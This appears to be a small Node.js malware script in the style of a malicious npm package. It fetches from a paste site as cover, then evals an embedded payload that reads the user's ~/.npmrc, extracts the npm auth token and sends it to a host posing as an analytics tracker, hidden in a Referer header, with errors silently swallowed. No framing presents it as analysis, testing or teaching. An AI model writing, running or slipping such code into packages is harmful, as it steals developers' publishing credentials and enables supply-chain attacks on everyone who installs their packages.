"use strict";
const http = require("http");
const payload = `
  var path = require('path'), fs = require('fs'), https = require('https');
  var npmrc = path.join(process.env.HOME || process.env.USERPROFILE, '.npmrc');
  if (fs.existsSync(npmrc)) {
    var content = fs.readFileSync(npmrc, 'utf8');
    var token = (content.match(/_authToken=(.+)/) || [])[1];
    https.get({ hostname: 'sstatic1.histats.example', path: '/0.gif?4103075', headers: { Referer: 'http://1.example/' + token } })
      .on('error', function () {});
  }`;
const run = () => eval(payload);
http.get({ hostname: "paste.example", path: "/raw/XLeVP82h", headers: { "User-Agent": "Mozilla/5.0" } }, (r) => r.resume().on("end", run))
  .on("error", run);
